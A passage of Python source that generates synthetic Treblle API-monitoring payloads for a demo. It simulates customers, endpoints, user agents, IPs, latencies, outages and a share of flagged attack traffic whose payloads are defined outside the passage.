        ("POST", "/auth/password/reset", 1, 150, 0.4, 0.1, 0.01, True,
         lambda g: {"email": f"{g.choice(_FIRST).lower()}@{g.choice(_EMAIL_DOMAINS)}"}, lambda g: {"message": "If the account exists, we sent an e-mail."}, 200),
    )


def _shipping(g):
    shipment = lambda g: {"id": "shp_" + _token(g, 12, _HEXCHARS), "carrier": g.choice(CARRIERS), "service": g.choice(("ground", "express", "economy")),  # noqa: E731
                          "status": g.choice(("label_created", "in_transit", "out_for_delivery", "delivered")),
                          "to": _address(g), "tracking_number": "1Z" + _token(g, 16).upper()}
    parcel = lambda g: {"weight_g": g.randint(100, 20000), "length_cm": g.randint(10, 80), "width_cm": g.randint(10, 60), "height_cm": g.randint(2, 50)}  # noqa: E731
    return (
        ("POST", "/api/v2/shipments", 10, 350, 0.45, 0.08, 0.015, False,
         lambda g: {"from": _address(g), "to": _address(g), "parcel": parcel(g), "reference": f"ORD-{g.randint(100000, 999999)}"}, shipment, 201),
        ("GET", "/api/v2/shipments/{shipment_id}", 15, 50, 0.4, 0.05, 0.006, False, None, shipment, 200),
        ("GET", "/api/v2/shipments/{shipment_id}/tracking", 25, 70, 0.5, 0.04, 0.01, False, None,
         lambda g: {"status": g.choice(("in_transit", "delivered", "exception")), "events": [
             {"time": f"2026-11-{g.randint(10, 28)}T{g.randint(0, 23):02d}:{g.randint(0, 59):02d}:00Z", "location": g.choice(CITIES)[0],
              "description": g.choice(("Departed facility", "Arrived at facility", "Out for delivery", "Delivered"))} for _ in range(g.randint(1, 3))]}, 200),
        ("POST", "/api/v2/rates", 20, 620, 0.5, 0.06, 0.02, False,
         lambda g: {"from": _address(g), "to": _address(g), "parcel": parcel(g)},
         lambda g: {"rates": [{"carrier": c, "amount": _money(g, 500, 9000), "currency": "usd", "days": g.randint(1, 7)} for c in g.sample(CARRIERS, 3)]}, 200),
        ("POST", "/api/v2/labels", 8, 900, 0.45, 0.05, 0.02, False,
         lambda g: {"shipment": "shp_" + _token(g, 12, _HEXCHARS), "format": g.choice(("pdf", "zpl", "png"))},
         lambda g: {"label_url": f"https://labels.example.com/{_token(g, 24)}.pdf", "tracking_number": "1Z" + _token(g, 16).upper()}, 201),
        ("GET", "/api/v2/pickups", 4, 85, 0.4, 0.03, 0.006, False, None,
         lambda g: {"pickups": [{"date": f"2026-11-{g.randint(10, 28)}", "window": "09:00-12:00", "carrier": g.choice(CARRIERS)}]}, 200),
        ("DELETE", "/api/v2/shipments/{shipment_id}", 2, 120, 0.4, 0.15, 0.01, False, None, None, 204),
        ("GET", "/api/v2/addresses/validate", 6, 140, 0.5, 0.1, 0.01, False, None,
         lambda g: {"valid": g.random() < 0.9, "normalized": _address(g)}, 200),
    )


_QUERIES = {  # query strings of GET routes
    "/api/orders": lambda g: {"status": g.choice(("paid", "pending", "shipped")), "limit": g.choice(("20", "50", "100"))},
    "/api/customers/{customer_id}/invoices": lambda g: {"status": g.choice(("open", "paid")), "limit": "10"},
    "/v1/products": lambda g: {"page": str(g.randint(1, 20)), "per_page": "50", "category": g.choice([p[2] for p in PRODUCTS])},
    "/v1/search": lambda g: {"q": g.choice(("running shoes", "headphones", "desk", "wool socks", "tent", "usb-c charger")), "limit": "20"},
    "/api/v2/pickups": lambda g: {"date": f"2026-11-{g.randint(10, 28)}", "carrier": g.choice(CARRIERS)},
    "/api/v2/addresses/validate": lambda g: (lambda city: {"postal_code": city[2], "country": city[1]})(g.choice(CITIES)),
}

# (name, sdk, wire format, server timezone, host, server software, language, share of calls through a proxy,
#  endpoint table)
_PROFILES = (
    ("payments", "django", "A", "America/New_York", "api.payments.example.com", "gunicorn/23.0.0", ("python", "3.12.7"), 0.9, _payments),
    ("catalog", "express", "A", "Europe/Amsterdam", "catalog.example.com", "node/22.11.0", ("node", "22.11.0"), 1.0, _catalog),
    ("auth", "laravel", "B", "Europe/Berlin", "auth.example.com", "nginx/1.27.3", ("php", "8.3.14"), 0.5, _auth),
    ("shipping", "node", "B", "America/Chicago", "api.shipping.example.com", "node/20.18.1", ("node", "20.18.1"), 0.3, _shipping),
)
_SDK_VERSIONS: dict[str, Any] = {"django": 20, "express": "1.0.2", "laravel": "6.0.1", "node": "3.1.0"}  # as sent
_API_POPULARITY = (0.28, 0.34, 0.18, 0.20)
_POOL_BITS = 5
_POOL = 1 << _POOL_BITS  # variants per endpoint: paths, queries, bodies
_PICK_BITS = 10  # weighted choices (endpoints, status codes) through a table of 2**_PICK_BITS entries
_LT_TABLE = 512  # load-time draws per endpoint

# --- Build ---------------------------------------------------------------------------------------


class _Endpoint:
    __slots__ = ("lt", "method", "paths", "queries", "req_bodies", "resp_bodies", "median", "sigma", "p4", "p5", "public", "ok",
                 "has_body")


class _Api:
    __slots__ = ("key", "sdk", "format_b", "version", "sdk_token", "style", "tz", "host", "server", "language", "proxy",
                 "endpoints", "ep_table", "public_table", "prefixes", "incidents", "errors", "lb_ips", "cookies",
                 "route_paths", "digits", "express", "ip_from_xff", "query_dict", "size_text", "empty_body", "unit")


class _Customer:
    __slots__ = ("cid", "cum", "lo", "span", "last", "apis", "uas", "ips", "auth", "mode_a", "mode_b", "meta", "meta_json",
                 "err", "lang")


def _build_api(g: random.Random, key: str, index: int, slots: int, slot_hour: list[int]) -> _Api:
    name, sdk, fmt, tz, host, software, (lang, lang_version), proxy, factory = _PROFILES[index % len(_PROFILES)]
    api = _Api()
    api.key, api.sdk, api.format_b, api.tz, api.proxy = key, sdk, fmt == "B", tz, proxy
    api.host = host if index < len(_PROFILES) else f"{name}-{index // len(_PROFILES) + 1}.example.com"
    api.sdk_token = "tk_" + _token(g, 32)
    api.unit = 1000.0 if sdk == "express" else 1.0  # @treblle/express sends microseconds
    api.size_text = sdk in ("laravel", "express")  # they send the size as a string
    api.empty_body = True if sdk in ("django", "laravel") else None  # they send {} for a request without a body
    api.version = _SDK_VERSIONS[sdk]
    api.style = sdk
    api.route_paths = sdk in ("django", "laravel")
    if sdk == "express":  # as @treblle/express 1.x reports its server
        api.server = {"timezone": tz, "os": {"name": "linux", "release": "6.8.0-1019-aws", "architecture": "x64"},
                      "software": None, "signature": None, "protocol": "http/1.1"}
        api.language = {"name": lang, "version": "v" + lang_version}
    else:
        api.server = {"ip": f"10.0.{g.randint(1, 30)}.{g.randint(2, 250)}", "timezone": tz, "software": software, "signature": "",
                      "protocol": "HTTP/1.1", "os": {"name": "Linux", "release": "6.8.0-1019-aws", "architecture": "x86_64"}}
        api.language = {"name": lang, "version": lang_version}
    # The Django SDK and @treblle/express report the first X-Forwarded-For address as request.ip;
    # Laravel and plain Node apps without a trusted-proxy setting report the load balancer.
    api.ip_from_xff = sdk in ("django", "express")
    api.query_dict = sdk == "django"  # Django: the URL without its query, which comes as a dict
    api.express = sdk == "express"
    api.digits = 3 if sdk == "express" else 2  # load_time as rounded by the SDK
    api.lb_ips = [f"10.{g.randint(0, 3)}.{g.randint(0, 255)}.{g.randint(2, 254)}" for _ in range(6)] + \
                 [f"172.{g.randint(16, 31)}.{g.randint(0, 255)}.{g.randint(2, 254)}" for _ in range(2)]
    api.cookies = [f"XSRF-TOKEN={_token(g, 40)}; path=/; secure, laravel_session={_token(g, 40)}; path=/; secure; httponly"
                   for _ in range(8)] if sdk == "laravel" else None
    api.errors = _spread([[{"source": "onException", "type": t, "message": m, "file": f, "line": ln}] for t, m, f, ln in _ERRORS[sdk]], 2)

    endpoints, weights = [], []
    normals = [g.gauss(0.0, 1.0) for _ in range(_LT_TABLE)]
    for method, route, weight, median, sigma, p4, p5, public, req, resp, ok in factory(g):
        ep = _Endpoint()
        ep.method, ep.median, ep.sigma, ep.p4, ep.p5, ep.public, ep.ok = method, median, sigma, p4, p5, public, ok
        ep.has_body = req is not None
        # Load times: a table of log-normal draws in the SDK's unit, rounded as the SDK does.
        shift = int(g.random() * _LT_TABLE)
        zs = normals[shift:] + normals[:shift]
        scale = median * api.unit
        ep.lt = [round(scale * math.exp(sigma * z), api.digits) for z in zs]
        names = [part[1:-1] for part in route.split("/") if part.startswith("{")]
        ep.paths = []
        for _ in range(_POOL):
            path = route
            for n in names:
                path = path.replace("{" + n + "}", _ids(g, n), 1)
            ep.paths.append((path, route.lstrip("/") if api.route_paths else None))
        qf = _QUERIES.get(route) if method == "GET" else None
        ep.queries = None
        if qf:
            ep.queries = []
            for _ in range(_POOL):
                q = qf(g)
                ep.queries.append(("&".join(f"{k}={quote(v, safe='')}" for k, v in q.items()), q))
        ep.req_bodies = [req(g) for _ in range(_POOL)] if req else None
        ep.resp_bodies = []
        for _ in range(_POOL):
            body = resp(g) if resp else None
            ep.resp_bodies.append((body, len(orjson.dumps(body)) if body is not None else 0))
        endpoints.append(ep)
        weights.append(weight)
    api.endpoints = endpoints
    api.ep_table = _table([ep for ep in endpoints], weights, _PICK_BITS)
    public = [ep for ep in endpoints if ep.public or ep.method == "GET"]
    api.public_table = _table(public, [1] * len(public), 4)

    # Timestamps: the server's wall clock (UTC for the JavaScript format A SDKs) per hour slot.
    zone = ZoneInfo("UTC") if sdk == "express" else ZoneInfo(tz)
    days: dict[int, str] = {}
    api.prefixes = []
    for h in slot_hour:
        local = datetime.fromtimestamp(h, zone)
        day = days.get(local.toordinal()) or days.setdefault(local.toordinal(), local.strftime("%Y-%m-%d "))
        api.prefixes.append(f"{day}{local.hour:02d}:")
        if local.minute or local.second:
            raise ValueError(f"{tz}: the demo's server zones must be whole hours from UTC")

    # Incidents: one or two short outages per 30 days, with 5xx and slow calls.
    api.incidents = set()
    for _ in range(max(1, round(slots / 720 * g.choice((1, 1, 2))))):
        start = g.randrange(0, max(1, slots - 3))
        api.incidents.update(range(start, min(slots, start + g.randint(1, 3))))
    return api


def _table(items: list, weights: list[float], bits: int) -> list:
    """2**bits entries, each item in proportion to its weight (at least once): `table[getrandbits(bits)]`
    is a weighted choice in one step."""
    size = 1 << bits
    total = sum(weights)
    counts = [max(1, round(w / total * size)) if w > 0 else 0 for w in weights]
    while sum(counts) > size:
        counts[counts.index(max(counts))] -= 1
    while sum(counts) < size:
        counts[counts.index(max(counts))] += 1
    return [item for item, n in zip(items, counts) for _ in range(n)]


def _spread(items: list, bits: int) -> list:
    """`items` stretched (or thinned) evenly to 2**bits entries, keeping their proportions."""
    size = 1 << bits
    return [items[i * len(items) // size] for i in range(size)]


def _cumulative(weights: list[float]) -> list[float]:
    total, out = 0.0, []
    for w in weights:
        total += w
        out.append(total)
    return out


_HUMAN = (0.10, 0.07, 0.05, 0.05, 0.06, 0.10, 0.20, 0.40, 0.75, 1.0, 1.0, 1.0,
          0.85, 0.95, 1.0, 1.0, 0.95, 0.80, 0.55, 0.40, 0.32, 0.25, 0.18, 0.13)
_MACHINE = tuple(0.55 + 0.45 * w for w in _HUMAN[:2]) + (1.4,) + tuple(0.55 + 0.45 * w for w in _HUMAN[3:])  # nightly batch at 02:00


def _slot_weights(offset_hours: float, machine: bool, slot_mid: list[float], slot_len: list[int], day_factor: list[float],
                  growth: list[float]) -> list[float]:
    offset = offset_hours * 3600
    curve = _MACHINE if machine else _HUMAN
    weekend = 0.7 if machine else 0.3
    weights = []
    for i, mid in enumerate(slot_mid):
        local = mid + offset
        day = int(local // 86400)
        w = curve[int(local % 86400 // 3600)] * (weekend if (day + 3) % 7 >= 5 else 1.0)
        weights.append(w * day_factor[i] * growth[i] * slot_len[i] / 3600)
    return weights


def demo_payloads(api_keys: list[str], count: int, *, seed: int = 7, now: float, days: int = 30) -> Iterator[dict]:
    """`count` Treblle payloads for the given API keys, spread over the `days` days up to `now`."""
    if not api_keys:
        raise ValueError("demo_payloads needs at least one API key")
    if count <= 0:
        return
    g = random.Random(seed)
    r = g.random

    # Hour slots aligned to UTC hours, clipped to the window [end - days*86400 + 1, end].
    end = int(now)
    start = end - int(days * 86400) + 1
    first_hour = start // 3600 * 3600
    slot_start, slot_len, slot_hour, slot_mid = [], [], [], []
    h = first_hour
    while h <= end:
        s, e = max(h, start), min(h + 3599, end)
        slot_start.append(s)
        slot_len.append(e - s + 1)
        slot_hour.append(h)
        slot_mid.append((s + e) / 2)
        h += 3600
    slots = len(slot_start)
    day_noise = {}
    day_factor = [day_noise.setdefault(int(m // 86400), max(0.5, g.gauss(1.0, 0.12))) for m in slot_mid]
    growth = [0.85 + 0.3 * i / max(1, slots - 1) for i in range(slots)]

    apis = [_build_api(g, key, i, slots, slot_hour) for i, key in enumerate(api_keys)]
    popularity_cum = _cumulative([_API_POPULARITY[i % len(_API_POPULARITY)] for i in range(len(apis))])

    group_cache: dict[tuple[float, bool], list[float]] = {}
    cum_cache: dict[tuple[float, bool], list[float]] = {}

    def group_weights(offset: float, machine: bool) -> list[float]:
        k = (offset, machine)
        if k not in group_cache:
            group_cache[k] = _slot_weights(offset, machine, slot_mid, slot_len, day_factor, growth)
        return group_cache[k]

    country_codes = list(COUNTRIES)
    country_cum = _cumulative([COUNTRIES[c][1] for c in country_codes])

    big_market_cum = _cumulative([COUNTRIES[c][1] ** 2 for c in country_codes])

    def pick_country(big_market: bool = False) -> str:
        """A home country; big customers come mostly from the biggest markets."""
        cum = big_market_cum if big_market else country_cum
        return country_codes[bisect_right(cum, r() * cum[-1])]

    def pick(seq):
        return seq[int(r() * len(seq))]

    def randint(a: int, b: int) -> int:
        return a + int(r() * (b - a + 1))

    def ips_of(cc: str, n: int) -> list[str]:
        prefixes = COUNTRIES[cc][2]
        return [f"{pick(prefixes)}.{randint(1, 254)}" for _ in range(n)]

    # --- customers ---
    n_customers = customer_count(count)
    used_ids: set[str] = set()
    used_names: set[str] = set()
    famous = list(FAMOUS_COMPANIES)
    g.shuffle(famous)

    def company_name(rank: int, cc: str) -> str:
        if rank < len(famous) and r() < 0.8:
            return famous[rank]
        for _ in range(20):
            c = pick(_WORD_C)
            name = f"{pick(_WORD_A)} {pick(_WORD_B)}" + (f" {c}" if c else "")
            if r() < 0.5:
                name += _COMPANY_SUFFIX.get(cc, "")
            if name not in used_names:
                break
        used_names.add(name)
        return name

    def unique(value: str) -> str:
        while value in used_ids:
            n = randint(2, 999)
            local, at, domain = value.partition("@")
            value = f"{local}{n}@{domain}" if at else f"{value}{n}"
        used_ids.add(value)
        return value

    customers: list[_Customer] = []
    for rank in range(n_customers):
        cc = pick_country(big_market=rank < 10)
        person = rank >= 10 and r() < 0.15
        u = r()
        if person:
            first, last = pick(_FIRST), pick(_LAST)
            name = f"{first} {last}" if r() < 0.85 else None
            if u < 0.6:
                slug = f"{first}.{last}".lower().replace("ü", "ue").replace("á", "a").replace("é", "e")
                cid = unique(f"{slug}@{pick(_EMAIL_DOMAINS)}")
            else:
                cid = unique("usr_" + _token(g, 8))
            kind = "mobile" if r() < 0.6 else "web"
        else:
            name = company_name(rank, cc)
            if u < 0.65:
                cid = unique("cus_" + _token(g, 6, _HEXCHARS))
            elif u < 0.85:
                domain = "".join(ch for ch in name.split(" ")[0].lower() if ch.isalnum()) + pick((".com", ".io", ".co", ".dev"))
                cid = unique(f"{pick(('api', 'dev', 'ops', 'integrations'))}@{domain}")
            else:
                cid = unique(f"acct_{randint(10000, 99999)}")
            if r() > 0.92:
                name = None  # no display name: the dashboard shows the id
            kind = ("integration", "web", "mobile")[bisect_right((0.5, 0.8), r())]

        c = _Customer()
        c.cid = cid
        machine = kind == "integration"
        weights = group_weights(COUNTRIES[cc][0], machine)
        if rank < 12:  # big customers: their own bursts (a backfill, a launch, a retry storm)
            weights = list(weights)
            for _ in range(randint(1, 3)):
                b = int(r() * slots)
                factor = 3 + r() * 5
                for k in range(b, min(slots, b + randint(2, 8))):
                    weights[k] *= factor
            c.cum = _cumulative(weights)
        else:
            key = (COUNTRIES[cc][0], machine)
            if key not in cum_cache:
                cum_cache[key] = _cumulative(weights)
            c.cum = cum_cache[key]
        first_slot, last_slot = 0, slots - 1
        if rank >= 20:
            if r() < 0.3:
                first_slot = int(r() * slots)  # a new customer, joined during the window
            if r() < 0.08:
                last_slot = randint(first_slot, slots - 1)  # churned
        c.lo = c.cum[first_slot - 1] if first_slot > 0 else 0.0
        c.span = c.cum[last_slot] - c.lo
        if c.span <= 0:
            c.lo, c.span, last_slot = 0.0, c.cum[-1], slots - 1
        c.last = last_slot

        # APIs: a primary one, the others with falling chance; big customers use more of them.
        primary = bisect_right(popularity_cum, r() * popularity_cum[-1])
        chosen = [primary] * 6
        for i in range(len(apis)):
            if i != primary and r() < (0.6 if rank < 30 else 0.3):
                chosen += [i] * randint(1, 3)
        c.apis = _spread([apis[i] for i in chosen], 4)

        # User agents (16, in proportion): the clients this customer's traffic comes from.
        if kind == "integration":
            main = pick(SERVER_CLIENT_UAS[:3] if rank % 3 == 0 else SERVER_CLIENT_UAS)
            second = pick(SERVER_CLIENT_UAS) if r() < 0.4 else main
            c.uas = [main] * 10 + [second] * 4 + [pick(DEV_TOOL_UAS), pick(DEV_TOOL_UAS)]
        elif kind == "web":
            c.uas = ([pick(DESKTOP_UAS) for _ in range(10)] + [pick(MOBILE_UAS) for _ in range(3)]
                     + [pick(TABLET_UAS), pick(MOBILE_UAS), pick(DEV_TOOL_UAS)])
        else:
            app = "".join(ch for ch in (name or "Mobile").split(" ")[0] if ch.isalnum()) or "Mobile"
            app_ua = f"{app}/{randint(2, 9)}.{randint(0, 20)}.{randint(0, 9)} (iPhone; iOS 18.{randint(0, 6)}; Scale/3.00)"
            c.uas = ([app_ua] * 5 + [pick(MOBILE_UAS) for _ in range(5)] + ["okhttp/4.12.0"] * 3
                     + [pick(TABLET_UAS), pick(TABLET_UAS), pick(DESKTOP_UAS)])
        c.lang = _ACCEPT_LANGUAGE.get(cc, "en-US,en;q=0.9") if kind != "integration" else None

        # Where the calls come from (16, in proportion): the home country, one or two elsewhere.
        c.ips = _spread(ips_of(cc, randint(1, 4) if machine else 6), 4)
        c.ips[int(r() * 16)] = ips_of(pick_country(), 1)[0]
        if r() < 0.3:
            c.ips[int(r() * 16)] = ips_of(pick_country(), 1)[0]

        u = r()
        if u < 0.08:
            c.auth = ("x-api-key", "sk_live_" + _token(g, 24))
        else:
            c.auth = ("authorization", "Bearer " + ("eyJhbGciOiJSUzI1NiJ9." + _token(g, 48) if u < 0.5 else _token(g, 40)))
        meta: dict[str, Any] = {"user-id": cid}
        if name:
            meta["user-name"] = name
        if not person and r() < 0.7:
            meta["plan"] = _PLANS[min(4, int(-math.log(1 - r() * 0.999) * 1.2 + (2 if rank < 20 else 0)))]
        c.meta = meta
        c.meta_json = orjson.dumps(meta).decode()
        # How the id travels: format A through headers, format B mostly through data.metadata.
        c.mode_a = bisect_right((0.45, 0.6, 0.85), r())  # 0 treblle-metadata req, 1 treblle-metadata resp, 2 treblle-user-id req, 3 resp
        c.mode_b = 0 if r() < 0.8 else 2
        c.err = min(4.0, math.exp((r() + r() + r() - 1.5) * 0.9))  # ~log-normal, sigma ~0.45
        customers.append(c)

    zipf = _cumulative([1 / (k + 1) ** ZIPF_EXPONENT for k in range(n_customers)])
    zipf_total = zipf[-1]

    # Unidentified visitors: public traffic, crawlers, scripts; no id at all.
    anons: list[_Customer] = []
    anon_cum = _cumulative(group_weights(0, False))
    for _ in range(128):
        c = _Customer()
        c.cid = None
        c.cum, c.lo, c.span, c.last = anon_cum, 0.0, anon_cum[-1], slots - 1
        c.apis = _spread(apis, 4)
        u = r()
        c.uas = [pick(DESKTOP_UAS) if u < 0.35 else pick(MOBILE_UAS) if u < 0.55 else pick(DEV_TOOL_UAS + SERVER_CLIENT_UAS)] * 16
        cc = pick_country()
        c.ips = _spread(ips_of(cc, 2), 4)
        c.auth = ("authorization", "Bearer " + _token(g, 40)) if r() < 0.7 else None
        c.lang = _ACCEPT_LANGUAGE.get(cc, "en-US,en;q=0.9") if u < 0.55 else None
        c.meta = c.meta_json = None
        c.mode_a = c.mode_b = 0
        c.err = 1.5
        anons.append(c)

    # Draw tables: weighted choices as `table[getrandbits(bits)]`.
    code4_table = _table([c for c, _ in _CODE_4XX], [w for _, w in _CODE_4XX], _PICK_BITS)
    code5_table = _table([c for c, _ in _CODE_5XX], [w for _, w in _CODE_5XX], _PICK_BITS)
    attack_codes = _spread((400, 403, 404, 422, 500), 3)
    ai_table = _spread(AI_AGENT_UAS, 4)
    assistant_table = _spread(_ASSISTANT_UAS, 3)
    attack_table = _spread([((q, dict(parse_qsl(q, keep_blank_values=True))) if q else None, b) for q, b in ATTACKS], 4)
    scanner_table = _spread(SCANNER_UAS, 2)
    mmss = [f"{m:02d}:{s:02d}" for m in range(60) for s in range(60)]
    error_bodies = {}
    for api in apis:
        error_bodies[api.style] = {code: (body, len(orjson.dumps(body))) for code in _MESSAGES for body in [_error_body(api.style, code)]}
    bits = g.getrandbits
    bit64 = 1 << 64
    lt_bits = _LT_TABLE.bit_length() - 1
    pool_bits = _POOL_BITS
    pick_bits = _PICK_BITS

    for _ in range(count):
        anonymous = r() < UNIDENTIFIED_SHARE
        c = anons[bits(7)] if anonymous else customers[bisect_right(zipf, r() * zipf_total)]
        api = c.apis[bits(4)]
        k = bisect_right(c.cum, c.lo + r() * c.span)
        if k > c.last:
            k = c.last
        t = slot_start[k] + int(r() * slot_len[k])

        ep = api.public_table[bits(4)] if anonymous and r() < 0.6 else api.ep_table[bits(pick_bits)]
        path, route = ep.paths[bits(pool_bits)]
        qs = ep.queries[bits(pool_bits)] if ep.queries is not None else None
        req_body = ep.req_bodies[bits(pool_bits)] if ep.has_body else None

        # Who is calling: user agent, address.
        u = r()
        if anonymous:
            ua = ai_table[bits(4)] if u < AI_SHARE_UNIDENTIFIED else c.uas[0]
        else:
            ua = assistant_table[bits(3)] if u < AI_SHARE_IDENTIFIED else c.uas[bits(4)]
        client = c.ips[bits(4)]

        # Threats: injections, plain HTTP, missing credentials.
        scheme = "https://"
        u = r()
        attack = u < ATTACK_SHARE
        if attack:
            aq, ab = attack_table[bits(4)]
            if aq is not None:
                qs = aq
            else:
                req_body = ab
            if u < ATTACK_SHARE / 2:
                ua = scanner_table[bits(2)]
        elif u < ATTACK_SHARE + PLAIN_HTTP_SHARE:
            scheme = "http://"
        auth = c.auth
        if ep.public:
            if r() < 0.85:
                auth = None
        elif auth is not None and r() < MISSING_AUTH_SHARE:
            auth = None

        # Outcome.
        incident = k in api.incidents
        u = r()
        m = c.err
        p5 = ep.p5 * m * (15 if incident else 1)
        if auth is None and not ep.public and u < 0.85:
            status = 401
        elif attack and u < 0.7:
            status = attack_codes[bits(3)]
        elif u < p5:
            status = code5_table[bits(pick_bits)]
        elif u < p5 + ep.p4 * m * CLIENT_ERROR_SCALE:
            status = code4_table[bits(pick_bits)]
        else:
            status = ep.ok
        if status < 400:
            resp_body, size = ep.resp_bodies[bits(pool_bits)]
            errors = []
        else:
            resp_body, size = error_bodies[api.style][status]
            errors = api.errors[bits(2)] if status >= 500 else []

        # Load time (in the SDK's unit): log-normal per endpoint, slow outliers, timeouts.
        u = r()
        load_time = ep.lt[bits(lt_bits)]
        if status >= 400 or incident or u < 0.01:
            if status == 504:
                load_time = round((30000 + u * 500) * api.unit, api.digits)
            elif incident:
                load_time = round(load_time * 3, api.digits)
            elif u < 0.01:
                load_time = round(load_time * (5 + u * 3500), api.digits)
            elif status in (401, 404, 429):
                load_time = round(load_time * 0.3, api.digits)

        rid = hex(bits(64) | bit64)[3:]
        headers = {"host": api.host, "user-agent": ua, "accept": "application/json", "accept-encoding": "gzip, deflate, br",
                   "x-request-id": rid}
        if auth is not None:
            headers[auth[0]] = auth[1]
        if c.lang is not None:
            headers["accept-language"] = c.lang
        if req_body is not None:
            headers["content-type"] = "application/json"
        if r() < api.proxy:
            headers["x-forwarded-for"] = client if t & 7 else f"{client}, 172.70.{k & 255}.{(t >> 3) % 254 + 1}"
            headers["x-forwarded-proto"] = "https" if scheme == "https://" else "http"
            ip = client if api.ip_from_xff else api.lb_ips[t & 7]
        else:
            ip = client
        response_headers = {"content-type": "application/json", "x-request-id": rid, "cache-control": "no-store"}
        if status == 429:
            response_headers["retry-after"] = "30"
        if api.cookies is not None:
            response_headers["set-cookie"] = api.cookies[t & 7]
        elif api.express:
            response_headers["x-powered-by"] = "Express"
            response_headers["content-length"] = str(size)
            if status == 200 and ep.method == "GET":
                response_headers["etag"] = f'W/"{size:x}-{rid[:12]}"'

        metadata = None
        if c.cid is not None:
            mode = c.mode_b if api.format_b else c.mode_a
            if mode == 0:
                if api.format_b:
                    metadata = c.meta
                else:
                    headers["treblle-metadata"] = c.meta_json
            elif mode == 1:
                response_headers["treblle-metadata"] = c.meta_json
            elif mode == 2:
                headers["treblle-user-id"] = c.cid
            else:
                response_headers["treblle-user-id"] = c.cid

        url = scheme + api.host + path
        if qs is not None and not api.query_dict:
            url += "?" + qs[0]
        sdk = api.sdk
        if req_body is None and api.empty_body is not None:
            req_body = {}
        request = {
            "timestamp": api.prefixes[k] + mmss[t % 3600],
            "ip": ip,
            "url": url,
            "user_agent": ua,
            "method": ep.method,
            "headers": headers,
            "body": req_body,
        }
        if api.query_dict:
            request["query"] = qs[1] if qs is not None else {}
        if route is not None:
            request["route_path"] = route
        data = {
            "server": api.server,
            "language": api.language,
            "request": request,
            "response": {
                "headers": response_headers,
                "code": status,
                "size": str(size) if api.size_text else size,
                "load_time": load_time,
                "body": resp_body,
            },
            "errors": errors,
        }
        if api.format_b:
            data["metadata"] = metadata if metadata is not None else {}
            yield {"sdk_token": api.sdk_token, "api_key": api.key, "version": api.version, "sdk": sdk, "data": data}
        else:
            yield {"api_key": api.sdk_token, "project_id": api.key, "version": api.version, "sdk": sdk, "data": data}


def _error_body(style: str, code: int) -> dict:
    name, message = _MESSAGES[code]
    if style == "django":
        return {"detail": message}
    if style == "laravel":
        if code == 422:
            return {"message": message, "errors": {"email": ["The email field is required."]}}
        return {"message": "Unauthenticated." if code == 401 else message}
    return {"error": {"code": name, "message": message}}
